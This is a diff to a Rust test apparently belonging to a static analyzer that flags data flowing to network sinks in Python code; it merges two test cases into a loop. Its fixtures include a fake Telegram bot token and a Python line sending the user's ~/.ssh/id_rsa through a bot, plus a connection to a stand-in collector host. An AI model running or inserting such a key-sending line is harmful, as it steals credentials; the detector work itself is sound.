@@ -1099,31 +1099,19 @@ mod tests {
     fn a_bot_token_or_a_connection_host_is_where_sends_go() {
         let token = format!("{}:AA{}", 712345678, "b".repeat(33));
         assert!(is_address(&token), "{token}");
-        let src = format!("import telebot\nbot = telebot.TeleBot('{token}')\ndef go():\n    bot.send_message(1, 2)\n");
-        let facts = parse(&src);
-        let flow = Flow::new(&facts);
-        assert!(
-            flow.name_labels(4, "bot").has(Labels::ADDRESS),
-            "{:?} {:?}",
-            flow.name_labels(4, "bot"),
-            facts.assigns
-        );
-        let src = format!(
-            "import os, telebot\nbot = telebot.TeleBot('{token}')\ndef go():\n    \
-             bot.send_message(42, open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"
-        );
-        let facts = parse(&src);
-        let flow = Flow::new(&facts);
-        assert!(
-            flow.name_labels(4, "bot").has(Labels::ADDRESS),
-            "{:?} {:?}",
-            flow.name_labels(4, "bot"),
-            facts.assigns
-        );
+        assert!(!is_address("12345:AAshort"));
+        // The bot is the module's, whether or not the function also hands it
+        // data (a method call on a name stores into the module's variable).
+        for call in ["bot.send_message(1, 2)", "bot.send_message(42, open(os.path.expanduser('~/.ssh/id_rsa')).read())"]
+        {
+            let src = format!("import os, telebot\nbot = telebot.TeleBot('{token}')\ndef go():\n    {call}\n");
+            let facts = parse(&src);
+            let labels = Flow::new(&facts).name_labels(4, "bot");
+            assert!(labels.has(Labels::ADDRESS), "{call}: {labels:?} {:?}", facts.assigns);
+        }
         let src = "import http.client\nc = http.client.HTTPSConnection('collector.example.invalid')\n";
         let facts = parse(src);
         assert!(Flow::new(&facts).name_labels(2, "c").has(Labels::ADDRESS));
-        assert!(!is_address("12345:AAshort"));
     }
 
     fn sink_labels(src: &str, sink: &str) -> Labels {
